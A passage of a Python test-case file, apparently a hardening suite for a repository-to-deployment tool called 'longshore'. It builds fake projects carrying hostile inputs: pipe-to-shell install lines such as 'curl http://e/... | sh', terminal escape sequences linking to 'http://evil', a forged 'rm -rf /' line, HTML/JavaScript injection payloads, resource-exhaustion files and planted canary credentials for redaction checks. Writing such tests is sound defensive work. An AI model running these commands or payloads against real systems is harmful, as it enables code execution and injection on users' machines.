            + ("for i in a\ndo\n" * 2000)
        },
        readme_text="# Shop\n\n```sh\nsh setup.sh\nnpm install\nnpm start\n```\n",
    ),
)
case(
    "N nesting",
    "shell-script-big",
    node(
        **{"setup.sh": "#!/bin/sh\n" + "".join(f"f{i}() {{ f{i+1}; }}\n" for i in range(30000)) + "f0\n"},
        readme_text="# Shop\n\n```sh\nsh setup.sh\nnpm install\nnpm start\n```\n",
    ),
)
case(
    "N nesting",
    "makefile",
    node(
        **{"Makefile": "".join(f"t{i}: t{i+1}\n\techo {i}\n" for i in range(60000)) + "t60000:\n\techo\n"},
        readme_text="# Shop\n\n```sh\nmake t0\nnpm install\nnpm start\n```\n",
    ),
)
case(
    "N nesting",
    "makefile-expand",
    node(
        **{"Makefile": "A=" + "$(A)" * 40 + "\ninstall:\n\techo $(A)\n"},
        readme_text="# Shop\n\n```sh\nmake install\nnpm install\nnpm start\n```\n",
    ),
)
case(
    "N nesting",
    "scripts-expand",
    node(
        {
            "scripts": {
                **{f"s{i}": f"npm run s{i+1} && npm run s{i+1} && npm run s{i+1} && npm run s{i+1}" for i in range(60)},
                "s60": "node a.js",
                "start": "npm run s0",
                "build": "npm run s0",
            }
        },
        readme(install="npm install\nnpm run build"),
    ),
)
case(
    "N nesting",
    "scripts-loop",
    node(
        {
            "scripts": {
                "start": "npm run a",
                "a": "npm run b",
                "b": "npm run a",
                "build": "npm run build",
                "migrate": "npm run migrate",
            }
        },
        readme(install="npm install\nnpm run build\nnpm run migrate"),
    ),
)
case(
    "N nesting",
    "workspace-chain",
    {
        "package.json": json.dumps(
            {"name": "top", "private": True, "workspaces": ["p/*"], "scripts": {"start": "npm -w p0 start"}}
        ),
        **{
            f"p/p{i}/package.json": json.dumps(
                {
                    "name": f"p{i}",
                    "scripts": {"start": "node a.js", "build": "x"},
                    "dependencies": {f"p{i+1}": "*", "express": "4"},
                }
            )
            for i in range(3000)
        },
        "README.md": readme(),
    },
    heavy=True,
)
case(
    "N nesting",
    "js",
    node(
        js="x = " + "[" * 20000 + "]" * 20000 + ";" + "(" * 20000 + ")" * 20000,
        **{
            "vite.config.js": "export default " + "{a:" * 20000 + "}" * 20000,
            "next.config.js": "(" * 60000,
            "proxy.conf.json": "[" * 30000,
            "src/setupProxy.js": "`${" * 10000,
        },
    ),
)
case(
    "N nesting",
    "vite-config",
    {
        "package.json": json.dumps(
            {"name": "front", "scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}}
        ),
        "index.html": "<html></html>",
        "vite.config.js": "const a = b; const b = a; export default { server: { proxy: "
        + "{a: " * 10000
        + "}" * 10000
        + " } }",
        "README.md": readme(install="npm install\nnpm run build", start=""),
    },
)
case(
    "N nesting",
    "vite-config-expand",
    {
        "package.json": json.dumps(
            {"name": "front", "scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}}
        ),
        "index.html": "<html></html>",
        "vite.config.js": "".join(
            f"const a{i} = [a{i+1},a{i+1},a{i+1},a{i+1},a{i+1},a{i+1},a{i+1},a{i+1}];" for i in range(30)
        )
        + 'const a30 = "x"; export default { server: { proxy: {"/a": a0, "/b": a1} } }',
        "README.md": readme(install="npm install\nnpm run build", start=""),
    },
)
case("N nesting", "nginx-conf", node(**{"nginx.conf": "server {\n" + "location / {" * 100000 + "\n deny all;\n"}))

B19 = 1_900_000
MD = {
    "brackets": "[" * B19,
    "brackets-link": "[a](" * (B19 // 4),
    "images": "![" * (B19 // 2),
    "quotes": "> " * (B19 // 2) + "x",
    "lists": "- " * (B19 // 2) + "x",
    "stars": "*a_" * (B19 // 3),
    "strong": "**a *b " * (B19 // 7),
    "backticks": "".join("`" * i + " " for i in range(1, 1900)),
    "fences": "```\nx\n```\n" * 150000,
    "html": "<a " * (B19 // 3),
    "comments": "<!--" * (B19 // 4),
    "refs": "".join(f"[r{i}]: x\n" for i in range(150000)),
    "refuse": "[a]: b\n" + "[a]" * (B19 // 3),
    "table": "|a" * 300000 + "|\n" + "|-" * 300000 + "|\n" + "|b" * 300000,
    "tablerows": "|a|b|\n|-|-|\n" + "|`A`|`b`|\n" * 150000,
    "oneline": "x" * B19,
    "spaces": " " * B19,
    "newlines": "\n" * B19,
    "entities": "&amp;" * (B19 // 5),
    "nestedlists": "".join(" " * (2 * (i % 500)) + "- a\n" for i in range(3500)),
    "olist": "".join(f"{i}. x\n" for i in range(150000)),
    "headings": "# a\n" * 400000,
    "setext": "a\n=\n" * 400000,
    "footnotes": "".join(f"[^{i}]: x\n" for i in range(100000)) + "".join(f"[^{i}]" for i in range(100000)),
    "footnest": "[^a" * 500000,
    "tilde": "~~a " * 400000,
    "autolink": "<http://" * 200000,
    "cdata": "<![CDATA[" * 200000,
    "meta": "---\n" * 400000,
    "cmds": "```sh\n" + "npm run build\n" * 130000 + "```\n",
    "cmds-unknown": "```sh\n" + "".join(f"frobnicate{i} x\n" for i in range(90000)) + "```\n",
    "curlsh": "```sh\n" + "".join(f"curl http://e/{i} | sh\n" for i in range(60000)) + "```\n",
    "curlsh-blocks": "".join(f"```sh\ncurl http://e/{i} | sh\n```\n" for i in range(40000)),
    "exports": "```sh\n" + "".join(f"export V{i}=x\n" for i in range(90000)) + "```\n",
    "mkdirs": "```sh\n" + "".join(f"mkdir d{i}\n" for i in range(100000)) + "```\n",
    "cps": "```sh\n" + "".join(f"cp a.js d{i}\n" for i in range(90000)) + "```\n",
    "inline": "`npm install` " * 120000,
    "apts": "```sh\napt-get install " + " ".join(f"p{i}" for i in range(200000)) + "\n```\n",
    "aptlines": "```sh\n" + "".join(f"apt-get install p{i}\n" for i in range(70000)) + "```\n",
    "crons": "```\n" + "".join(f"0 2 * * * node a{i}.js\n" for i in range(70000)) + "```\n",
    "pips": "```sh\n" + "".join(f"npm install p{i}\n" for i in range(80000)) + "```\n",
    "writes": "```sh\n" + "".join(f"echo x > f{i}\n" for i in range(90000)) + "```\n",
    "links": "".join(f"[install](install{i}.md)\n" for i in range(70000)),
    "ports": "http://localhost:3000 " * 80000,
    "node18": "Node 18 " * 200000,
    "pg": "PostgreSQL 14 " * 130000,
    "tabs": '=== "a"\n' * 200000,
    "docker": "```sh\n" + "docker run -p 1:1 postgres:14\n" * 60000 + "```\n",
    "heredocs": "```sh\n" + "cat > a <<EOF\nx\nEOF\n" * 80000 + "```\n",
    "unclosed-heredoc": "```sh\ncat <<EOF\n" + "x\n" * 800000 + "```\n",
    "prompts": "```\n$ npm install\n" + "output\n" * 250000 + "```\n",
    "sql": "```sql\n" + "create database x;\n" * 90000 + "```\n",
    "units": "```ini\n[Service]\n" + "Environment=A=1\n" * 100000 + "```\n",
    "longcmd": "```sh\nnpm run build " + "x " * 900000 + "\n```\n",
    "contline": "```sh\nnpm run build \\\n" + "x \\\n" * 400000 + "\n```\n",
    "created": "Create `config.json`:\n\n```json\n{"
    + ",".join(f'"password{i}": "x"' for i in range(80000))
    + "}\n```\n",
}
for n, t in MD.items():
    case("D readme", n, node(readme_text="# Shop\n\n```sh\nnpm install\nnpm start\n```\n\n" + t), dos=True)
for ext, mk in {
    "rst": lambda: ".. code::\n\n  npm install\n\n" * 50000,
    "rst2": lambda: ".. " * 600000,
    "rst3": lambda: "a\n=\n\n::\n\n  x\n\n" * 100000,
    "adoc": lambda: "[source]\n----\nnpm install\n----\n" * 50000,
    "adoc2": lambda: "= " * 900000,
    "txt": lambda: "  npm install\n\n" * 100000,
    "txt2": lambda: "\t" * B19,
}.items():
    e = ext.rstrip("0123456789")
    case(
        "D readme",
        "doc-" + ext,
        {**{k: v for k, v in node().items() if k != "README.md"}, f"README.{e}": mk()},
        dos=True,
    )
case("D readme", "10mb-one-line", node(readme_text="npm install " * 900000), dos=True)
case("D readme", "10mb-fences", node(readme_text="```sh\nnpm install\n```\n" * 500000), dos=True)

SRC = {
    "env-refs": {".env.example": "".join(f"A{i}=${{A{max(i-1,0)}}}\n" for i in range(100000))},
    "env-lines": {".env.example": "".join(f"A{i}=x\n" for i in range(150000))},
    "env-reads": {"e.js": "\n".join(f'process.env.R{i} || "x"' for i in range(70000))},
    "deps": {
        "package.json": json.dumps(
            {
                "name": "x",
                "main": "a.js",
                "scripts": {"start": "node a.js"},
                "dependencies": {f"d{i}": "1" for i in range(100000)},
            }
        )
    },
    "scripts": {
        "package.json": json.dumps(
            {
                "name": "x",
                "main": "a.js",
                "scripts": {**{f"s{i}": f"npm run s{i+1}" for i in range(60000)}, "start": "npm run s0"},
            }
        )
    },
    "lock": {
        "package-lock.json": '{"packages": {'
        + ",".join(f'"node_modules/d{i}": {{"version": "1"}}' for i in range(40000))
        + "}}"
    },
    "requirements": {"requirements.txt": "".join(f"p{i}==1\n" for i in range(150000)), "app.py": "import flask\n"},
    "pairs": {
        "c.js": "\n".join(f'host{i}: "a", password: "b", user: "c", database: "d"' for i in range(40000)),
        "p.js": 'const {Pool}=require("pg");' + 'new Pool({host: "db", user: "u"});' * 20000,
        "package.json": json.dumps(
            {
                "name": "x",
                "main": "a.js",
                "scripts": {"start": "node a.js"},
                "dependencies": {"pg": "8", "express": "4"},
            }
        ),
    },
    "computed": {
        "c.js": "".join(f'const h{i} = "a";\n' for i in range(50000)),
        "p.js": 'const {Pool}=require("pg");'
        + "".join(f"new Pool({{host: h{i}, user: u{i}}});\n" for i in range(20000)),
        "package.json": json.dumps(
            {
                "name": "x",
                "main": "a.js",
                "scripts": {"start": "node a.js"},
                "dependencies": {"pg": "8", "express": "4"},
            }
        ),
    },
    "routes": {"r.js": "".join(f'app.get("/p{i}", f);\n' for i in range(70000))},
    "sqlite-names": {
        "s.py": "".join(f'x = os.path.join("d", "f{i}.sqlite3")\n' for i in range(40000)),
        "requirements.txt": "flask\n",
        "app.py": "import flask\n",
    },
    "gitignore": {".gitignore": "".join(f"**/a{i}*/**/b?[c-d]/\n" for i in range(60000))},
    "gitignore-brace": {
        ".gitignore": ("{" + ",".join(["a"] * 50) + "}") * 400 + "/\n" + "[" * 100000 + "\n" + "*" * 100000 + "a/\n"
    },
    "workspace-glob": {
        "package.json": json.dumps(
            {
                "name": "x",
                "workspaces": [
                    "{" + ",".join(["a*"] * 500) + "}" * 1 + "**/" * 200,
                    *[f"**/{'*' * 50}a{i}/**" for i in range(5000)],
                ],
                "scripts": {"start": "node a.js"},
            }
        )
    },
    "crontab-file": {"crontab": "".join(f"* * * * * node a{i}.js\n" for i in range(60000))},
    "procfile": {"Procfile": "web: node a.js\n" + "".join(f"w{i}: node w{i}.js\n" for i in range(60000))},
    "nginx": {"nginx.conf": "server {\n" + "".join(f"location ~ a{i} {{ deny all; }}\n" for i in range(60000)) + "}\n"},
    "compose-many": {
        "docker-compose.yml": "services:\n"
        + "".join(f"  s{i}: {{build: ./d{i}, depends_on: [s{max(i-1,0)}]}}\n" for i in range(30000))
    },
    "sqlfiles": {
        **{f"m{i}.sql": "create table a (id int);\n" for i in range(3000)},
        "package.json": json.dumps(
            {
                "name": "x",
                "main": "a.js",
                "scripts": {"start": "node a.js"},
                "dependencies": {"pg": "8", "express": "4"},
            }
        ),
    },
    "pom-deps": {
        "pom.xml": "<project><dependencies>"
        + "".join(f"<dependency><artifactId>a{i}</artifactId></dependency>\n" for i in range(30000))
        + "</dependencies></project>"
    },
    "gomod": {
        "go.mod": "module x\ngo 1.21\nrequire (\n" + "".join(f" a.b/c{i} v1.0.0\n" for i in range(80000)) + ")\n",
        "main.go": "package main\nfunc main(){}\n",
    },
    "dockerfile-run": {"Dockerfile": "FROM x\n" + "".join(f"RUN apt-get install a{i}\n" for i in range(80000))},
    "dockerfile-env": {"Dockerfile": "FROM x\n" + "".join(f"ENV A{i}=b\n" for i in range(120000))},
    "state-files": {".longshore.json": json.dumps({"files": {f"f{i}": "0" * 64 for i in range(100000)}})},
    "toml-big": {"longshore.toml": "[env]\n" + "".join(f'A{i} = "x"\n' for i in range(60000))},
    "toml-images": {"longshore.toml": "[images]\n" + "".join(f'"a{i}" = "x"\n' for i in range(40000))},
    "toml-errors": {"longshore.toml": "[env]\n" + "".join(f'"a-{i}" = "x"\n' for i in range(40000))},
    "c-many-js": {f"s{i}.js": "process.env.X;\n" * 100 for i in range(3000)},
}
for n, f in SRC.items():
    case("D source", n, {**node(), **f}, dos=True, in_place=(n == "state-files"))
case("D source", "hardlinks-1000", {**node(), "BIGJS": ("hardmany", 1000, B19)}, heavy=True, dos=True)
case(
    "D source",
    "components-500",
    {
        **{f"c{i}/{k}": v for i in range(500) for k, v in node({"name": f"c{i}"}).items()},
        "README.md": "# Shop\n\nParts.\n",
    },
    dos=True,
    heavy=True,
)

# =====================================================================
# E: encodings
# =====================================================================
case(
    "E encoding",
    "invalid-utf8",
    node(
        **{
            "README.md": b"# Shop \xff\xfe\n\n```sh\nnpm install \xc3\x28\nnpm start\n```\n",
            ".env.example": b"A=\xff\xfe\nB\xff=1\n",
            "a.js": b'require("express")().listen(3000); process.env.A // \xff\n',
        }
    ),
)
case(
    "E encoding",
    "utf16le",
    {
        **node(),
        "README.md": "\ufeff# Shop\n\n```sh\nnpm install\nnpm start\n```\n".encode("utf-16-le"),
        "package.json": '\ufeff{"name":"x","scripts":{"start":"node a.js"},"dependencies":{"express":"4"}}'.encode(
            "utf-16-le"
        ),
    },
)
case(
    "E encoding",
    "utf16be-odd",
    {
        **node(),
        "README.md": b"\xfe\xff" + "# Shop\n\n```sh\nnpm install\n```\n".encode("utf-16-be") + b"\x00\xd8\x00\xd8\x00",
        ".env.example": b"\xff\xfeA",
    },
)
case(
    "E encoding",
    "bom",
    {k: (b"\xef\xbb\xbf" + b(v)) for k, v in node(**{".env.example": "FOO=1\n"}, js="process.env.FOO").items()},
)
case("E encoding", "bom-many", {k: (b"\xef\xbb\xbf" * 50000 + b(v)) for k, v in node().items()})
case(
    "E encoding",
    "nul",
    node(readme_text="# Sh\0op\n\n```sh\nnpm in\0stall\nnpm start\n```\n", **{".env.example": "A=\0\nB=x\0y\n"}),
)
case(
    "E encoding",
    "nul-late",
    node(
        readme_text="# Shop\n\n" + "x " * 5000 + "\n\n```sh\nnpm install\nnpm run build \0 x\nnpm start\n```\n",
        **{".env.example": "X" * 9000 + "=1\nA=a\0b\n"},
        js="process.env.A",
    ),
)
case(
    "E encoding",
    "noncharacters",
    node(
        readme_text=readme(
            title="\ufffe\uffff\U0010ffff\u00ad",
            install="npm install\nnpm run build \ufffe\uffff\u0000\ud7ff\ue000",
            start="npm start \U000e0041",
        ),
        **{".env.example": "A=\ufffe\uffff\nB=\ue0005\ue001\n"},
        js="process.env.A;process.env.B",
    ),
    envcheck=True,
)
case(
    "E encoding",
    "win1252-ctl",
    {
        **node(),
        "README.md": b"# Shop\n\n```sh\nnpm install \x9b31m\x85RUN INJLINE\x85\x81\xff\nnpm run build 'a\x85RUN INJLINE'\nnpm start\n```\n",
        ".env.example": b"A=x\x85INJLINE: y\xff\n",
    },
    envcheck=True,
)

# =====================================================================
# X: terminal escapes; M: Markdown and HTML
# =====================================================================
E1 = f"{ESC}[2J{ESC}]0;INJTITLE\x07{ESC}]8;;http://evil\x07x{ESC}[31m\x9b31m\x90\x08\x7f\r{RTL}"
case(
    "X terminal",
    "everywhere",
    node(
        {
            "name": "x" + E1,
            "scripts": {"start": "node a.js " + E1, "build": "node b.js " + E1, "migrate": "node m.js"},
            "engines": {"node": "99" + E1},
        },
        readme(
            title="Shop" + E1,
            install=f"npm install {E1}\nnpm run build '{E1}'\nfrobnicate {E1}\ncurl http://x/{E1} | sh\ncp 'no{E1}' x\nsystemctl start 'x{E1}'\nnpm run 'missing{E1}'",
            start=f"npm start '{E1}'",
            extra=f"Needs Node {E1} 12.",
        ),
        js="process.env.FOO; process.env.TT",
        **{".env.example": f"FOO=a{E1}\n# about {E1}\nTT=x\n"},
    ),
)
case(
    "X terminal",
    "paths",
    {
        **node(),
        f'{E1.replace("/", "_")}/README.md': "# x\n\n```sh\nfrobnicate\ncurl http://x | sh\n```\n",
        f'{E1.replace("/", "_")}/package.json': '{"name":"x", broken',
        f'{E1.replace("/", "_")}/requirements.txt': "flask\n",
        f'{E1.replace("/", "_")}/app.py': "from flask import Flask\napp = Flask(__name__)\n",
        f'requirements{E1.replace("/", "_")}.txt': "x",
    },
)
case(
    "X terminal",
    "broken-manifests",
    {
        **node(),
        "package.json": f'{{"name": "{E1}", {E1}',
        "pyproject.toml": f"a = {E1}\n",
        "longshore.toml": f'[component]\nprot = "{E1}"\n',
        "pom.xml": f"<a>{E1}</b>",
    },
)
case(
    "X terminal",
    "config-errors",
    {
        **node(),
        "longshore.toml": 'recipes = ["a\\u001b[31m\\u009b"]\n[env]\n"A\\u001b[2J" = "x"\n[images]\n"x\\u001b[31m" = "http://\\u001b[31m"\n[mirrors]\n"y\\u001b[31m" = "x"\n[ingress]\nhost = "\\u001b[31m"\n[component]\npackages = ["\\u001b[31m"]\n',
    },
)
case(
    "X terminal",
    "check-diff",
    node(**{"Dockerfile": f"FROM x\n# {E1}\n", "compose.yaml": f"{E1}\n"}),
    in_place=True,
    check_esc=True,
)
case(
    "X terminal",
    "stale-path",
    node(
        **{
            ".longshore.json": json.dumps(
                {"files": {f"gone{ESC}[31m\x07": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}
            ),
            f"gone{ESC}[31m\x07": "",
        }
    ),
    in_place=True,
    check_esc=True,
)
case(
    "X terminal",
    "newline-forge",
    node(
        {
            "scripts": {
                "start": "node a.js\n  port      22    \n\nledger: what became of every command\n  README.md:1  rm -rf /  → Dockerfile:1"
            },
            "engines": {"node": "18\nerror: all is well"},
        }
    ),
)
case(
    "X terminal",
    "recipes-esc",
    {
        **node(),
        "longshore.toml": 'recipes = ["r"]\n',
        "r/stacks/x.toml": f'title = "\\u001b[31m{E1}"\n',
        f"r/st{ESC}[31m/y.toml": "x=1\n",
    },
)
for n, t in {
    "backticks": "npm run build ``<img src=x onerror=INJHTML>``",
    "tick3": "npm run build ```` <script>INJHTML</script> ````",
    "pipe": "npm run build a|b || c \\| d \\\\| e | f",
    "html": 'npm run build "<script>INJHTML</script>" </table><script>INJHTML</script>',
    "link": "npm run build [x](javascript:INJHTML) ![y](http://evil/INJHTML)",
    "comment": "npm run build --> <!-- INJHTML -->",
    "backslash-end": "npm run build a\\",
    "tick-only": "npm run build `",
    "tick-edge": "`npm run build`",
    "autolink": "npm run build <http://evil/INJHTML> www.evil.example/INJHTML http://evil.example/INJHTML",
}.items():
    case(
        "M markdown",
        f"cmd-{n}",
        node(
            readme_text=f"# Shop\n\n~~~~~sh\nnpm install\n{t}\nnpm start {t[14:]}\nfrobnicate {t[14:]}\n~~~~~\n",
            js="process.env.MDV",
            **{".env.example": f"MDV={t[14:]}\n"},
        ),
    )
case(
    "M markdown",
    "paths",
    {
        **node(readme_text="# Shop\n\nSee [install](docs/install%20x.md).\n\n```sh\nnpm install\nnpm start\n```\n"),
        "docs/install|<script>INJHTML<|script>``.md": "```sh\nnpm run build\n```\n",
        "INSTALL.md": "```sh\nnpm run build\n```\n",
        "docs/INSTALL.md": "# x\n",
    },
)
case(
    "M markdown",
    "names",
    node(
        {"name": "<script>INJHTML</script>", "engines": {"node": "<img src=x onerror=INJHTML>|``"}},
        readme(
            title="<script>INJHTML</script>",
            extra="Needs Node <img> 12 and PostgreSQL <b>",
            install="npm install\nmkdir -p 'a``<img src=x onerror=INJHTML>'\nsudo apt-get install imagemagick '<img>'\ncp '<img src=x onerror=INJHTML>' y",
        ),
        js="process.env.HH",
        **{".env.example": "HH=``<img src=x onerror=INJHTML>``\n"},
    ),
)
case(
    "M markdown",
    "questions",
    node(
        {"dependencies": {"express": "4", "redis": "4"}},
        readme(more="Redis\n\n" + fence("export API_URL='<img src=x onerror=INJHTML>'\nexport FOO_URL=``INJHTML``")),
        js="process.env.API_URL; process.env.FOO_URL",
    ),
)

# =====================================================================
# K: secrets in clear text
# =====================================================================
SK = {
    "aws-readme": (
        node(
            readme_text=readme(
                install="npm install\nexport AWS_ACCESS_KEY_ID=AKIASECRETCANARY0001\nexport AWS_SECRET_ACCESS_KEY=SECRETCANARYaws2",
                start="npm start",
            ),
            js="process.env.AWS_ACCESS_KEY_ID; process.env.AWS_SECRET_ACCESS_KEY",
        ),
        "AKIASECRETCANARY0001 SECRETCANARYaws2",
    ),
    "url-password-readme": (
        node(
            readme_text=readme(
                install="npm install\ngit clone https://user:SECRETCANARYgit@github.com/x/y.git\ncurl -u admin:SECRETCANARYcurl https://x/y\nnpm install https://user:SECRETCANARYnpm@host/x.tgz\nwget https://u:SECRETCANARYwget@h/x"
            )
        ),
        "SECRETCANARYgit SECRETCANARYcurl SECRETCANARYnpm SECRETCANARYwget",
    ),
    "pip-index": (
        django(
            readme_text="# Shop\n\n```sh\npip install -r requirements.txt --extra-index-url https://user:SECRETCANARYpip@pypi.corp/simple\npip config set global.index-url https://__token__:SECRETCANARYpip2@pypi.corp/simple\npython manage.py migrate\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n"
        ),
        "SECRETCANARYpip SECRETCANARYpip2",
    ),
    "start-flag": (
        node(
            readme_text=readme(
                start="npm start -- --password SECRETCANARYflag --api-key=SECRETCANARYflag2 --token SECRETCANARYflag3"
            )
        ),
        "SECRETCANARYflag SECRETCANARYflag2 SECRETCANARYflag3",
    ),
    "start-env": (
        node(
            readme_text=readme(start="DB_PASSWORD=SECRETCANARYse API_TOKEN=SECRETCANARYse2 npm start"),
            js="process.env.DB_PASSWORD; process.env.API_TOKEN",
        ),
        "SECRETCANARYse SECRETCANARYse2",
    ),
    "export-secret": (
        node(
            readme_text=readme(
                install="npm install\nexport SECRET_KEY=SECRETCANARYex\necho SECRET_KEY=SECRETCANARYecho >> .env\nset JWT_SECRET=SECRETCANARYset"
            ),
            js="process.env.SECRET_KEY; process.env.JWT_SECRET",
        ),
        "SECRETCANARYex SECRETCANARYecho SECRETCANARYset",
    ),
    "mysql-p": (
        node(
            {"dependencies": {"express": "4", "mysql2": "3"}},
            readme(
                install="npm install\nmysql -u root -pSECRETCANARYmy -e 'create database shop'\nmysql -u root --password=SECRETCANARYmy2 shop < schema.sql\nPGPASSWORD=SECRETCANARYpg psql -h x\ncreateuser x"
            ),
            js='require("mysql2").createConnection({host: process.env.DB_HOST, password: process.env.DB_PASSWORD})',
        ),
        "SECRETCANARYmy SECRETCANARYmy2 SECRETCANARYpg",
    ),
    "private-key-readme": (
        node(
            readme_text=readme(
                install="npm install\ncat > key.pem <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nSECRETCANARYkey\n-----END RSA PRIVATE KEY-----\nEOF\necho 'SECRETCANARYkey2' > id_rsa"
            )
        ),
        "SECRETCANARYkey SECRETCANARYkey2",
    ),
    "dotenv": (
        node(
            js="process.env.SECRET_KEY; process.env.STRIPE; process.env.SLACK_WEBHOOK; process.env.MONGO; process.env.SMTP_URL; process.env.AWS_ACCESS_KEY_ID; process.env.GITHUB_PAT; process.env.SENTRY; process.env.HTTP_PROXY; process.env.DB_URI; process.env.ADMIN_LOGIN; process.env.SIGNING; process.env.JWT; process.env.API; process.env.AUTH; process.env.CERT; process.env.SESSION",
            **{
                ".env": 'SECRET_KEY=SECRETCANARYd1\nSTRIPE=sk_live_SECRETCANARYd2\nSLACK_WEBHOOK=https://hooks.slack.com/services/T00/B00/SECRETCANARYd3\nMONGO=mongodb://u:SECRETCANARYd4@h/x\nSMTP_URL=smtp://u:SECRETCANARYd5@mail.h\nAWS_ACCESS_KEY_ID=AKIASECRETCANARYd6\nGITHUB_PAT=ghp_SECRETCANARYd7\nSENTRY=https://SECRETCANARYd8@sentry.io/1\nHTTP_PROXY=http://u:SECRETCANARYd9@proxy:3128\nDB_URI=mysql://root:SECRETCANARYd10@h/x\nADMIN_LOGIN=admin:SECRETCANARYd11\nSIGNING=SECRETCANARYd12\nJWT=eyJhbGciOiJIUzI1NiJ9.SECRETCANARYd13.x\nAPI=AIzaSECRETCANARYd14\nAUTH=Basic SECRETCANARYd15\nCERT="-----BEGIN PRIVATE KEY-----SECRETCANARYd16"\nSESSION=SECRETCANARYd17\n'
            },
        ),
        " ".join(f"SECRETCANARYd{i}" for i in range(1, 18)),
    ),
    "env-example": (
        node(
            js="process.env.WEBHOOK_URL; process.env.REDIS_URL; process.env.CLIENT_ID; process.env.LICENSE",
            **{
                ".env.example": "WEBHOOK_URL=https://u:SECRETCANARYe1@h/x\nREDIS_URL=redis://:SECRETCANARYe2@h:6379\nCLIENT_ID=SECRETCANARYe3notsecret\n# password is SECRETCANARYe4\nLICENSE=x\n"
            },
        ),
        "SECRETCANARYe1 SECRETCANARYe2 SECRETCANARYe4",
    ),
    "source-default": (
        node(
            js='process.env.SECRET_KEY || "SECRETCANARYs1"; process.env.APP_KEY || "SECRETCANARYs2"; process.env.MAIL_URL || "smtp://a:SECRETCANARYs3@h"; process.env.WEBHOOK || "https://x/SECRETCANARYs4tok"'
        ),
        "SECRETCANARYs1 SECRETCANARYs2 SECRETCANARYs3",
    ),
    "source-fixed": (
        node(
            {"dependencies": {"express": "4", "pg": "8"}},
            js='const {Pool}=require("pg"); new Pool({host: "localhost", user: "shop", password: "SECRETCANARYf1", database: "shop"});',
        ),
        "SECRETCANARYf1",
    ),
    "source-fixed-url": (
        node(
            {"dependencies": {"express": "4", "mongoose": "7"}},
            js='require("mongoose").connect("mongodb://shop:SECRETCANARYf2@localhost:27017/shop");',
        ),
        "SECRETCANARYf2",
    ),
    "dockerfile-arg": (
        node(
            js="process.env.SECRET_KEY; process.env.TOKEN1",
            **{
                "Dockerfile": 'FROM node:18\nARG NPM_TOKEN=SECRETCANARYa1\nENV SECRET_KEY=SECRETCANARYa2 TOKEN1=x\nENV DATABASE_DSN postgres://u:SECRETCANARYa3@h/x\nRUN curl -u x:SECRETCANARYa4 http://h\nENTRYPOINT ["node", "a.js", "--password", "SECRETCANARYa5"]\n'
            },
            readme_text="# Shop\n\nA shop.\n",
        ),
        "SECRETCANARYa1 SECRETCANARYa2 SECRETCANARYa3 SECRETCANARYa4 SECRETCANARYa5",
        {"existing": True},
    ),
    "git-remote": (
        node(
            **{
                ".git/config": '[remote "origin"]\n\turl = https://u:SECRETCANARYg1@github.com/x/y\n',
                ".git/HEAD": "ref: refs/heads/main\n",
            }
        ),
        "SECRETCANARYg1",
    ),
    "npmrc": (
        node(
            **{
                ".npmrc": "//registry.npmjs.org/:_authToken=SECRETCANARYn1\n",
                "auth.json": '{"http-basic":{"x":{"username":"u","password":"SECRETCANARYn2"}}}',
                "pip.conf": "[global]\nindex-url=https://u:SECRETCANARYn3@h\n",
                ".netrc": "machine h password SECRETCANARYn4\n",
            }
        ),
        "SECRETCANARYn1 SECRETCANARYn2 SECRETCANARYn3 SECRETCANARYn4",
    ),
    "requirements-url": (
        django(
            **{
                "requirements.txt": "Django\ngunicorn\ngit+https://user:SECRETCANARYr1@github.com/x/y.git#egg=y\n--index-url https://u:SECRETCANARYr2@h/simple\n"
            }
        ),
        "SECRETCANARYr1 SECRETCANARYr2",
    ),
    "compose-env": (
        node_pg(
            **{
                "docker-compose.yml": "services:\n  db:\n    image: postgres:14\n    environment:\n      POSTGRES_PASSWORD: SECRETCANARYc1\n  web:\n    build: .\n    environment:\n      - SECRET_KEY=SECRETCANARYc2\n"
            }
        ),
        "SECRETCANARYc1 SECRETCANARYc2",
    ),
    "settings-py": (
        django(
            **{
                "site1/settings.py": 'SECRET_KEY = "SECRETCANARYp1"\nDATABASES={"default":{"ENGINE":"django.db.backends.postgresql","NAME":"x","USER":"x","PASSWORD":"SECRETCANARYp2","HOST":"localhost"}}\nEMAIL_HOST_PASSWORD="SECRETCANARYp3"\nAWS_SECRET_ACCESS_KEY = "SECRETCANARYp4"\n'
            }
        ),
        "SECRETCANARYp1 SECRETCANARYp2 SECRETCANARYp3 SECRETCANARYp4",
    ),
    "readme-table": (
        node(
            js="process.env.API_KEY; process.env.HOOK",
            readme_text=readme(
                more="| Variable | Default | Meaning |\n|---|---|---|\n| API_KEY | SECRETCANARYt1 | the key SECRETCANARYt2 of it |\n| HOOK | https://u:SECRETCANARYt3@h | hook |\n"
            ),
        ),
        "SECRETCANARYt1 SECRETCANARYt3",
    ),
    "systemd": (
        django(
            readme_text='# Shop\n\n```sh\npip install -r requirements.txt\n```\n\n```ini\n[Service]\nEnvironment=SECRET_KEY=SECRETCANARYu1\nEnvironment="DB_PASSWORD=SECRETCANARYu2"\nExecStart=/srv/venv/bin/gunicorn site1.wsgi -b 0.0.0.0:8000 --env TOKEN=SECRETCANARYu3\n```\n'
        ),
        "SECRETCANARYu1 SECRETCANARYu2 SECRETCANARYu3",
    ),
    "cron": (
        django(
            readme_text="# Shop\n\n```sh\npip install -r requirements.txt\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n\nCrontab:\n\n```\nDB_PASSWORD=SECRETCANARYv1\n0 2 * * * python manage.py sync --token=SECRETCANARYv2\n```\n"
        ),
        "SECRETCANARYv1 SECRETCANARYv2",
    ),
    "created-file": (
        node(
            js='const c=require("./config/default.json");',
            readme_text='# Shop\n\n```sh\nnpm install\n```\n\nCreate a `default.json` file in the `config` folder with the following:\n\n```json\n{"db": {"host": "h", "user": "u", "password": "SECRETCANARYw1"}, "jwtSecret": "SECRETCANARYw2", "hook": "https://u:SECRETCANARYw3@h", "key": "SECRETCANARYw4", "stripe": "sk_live_SECRETCANARYw5"}\n```\n\n```sh\nnpm start\n```\n',
        ),
        "SECRETCANARYw1 SECRETCANARYw2 SECRETCANARYw3 SECRETCANARYw4 SECRETCANARYw5",
    ),
    "nginx-params": (
        {
            **PHP,
            "index.php": '<?php $_SERVER["DB_PASSWORD"]; getenv("API_SECRET");',
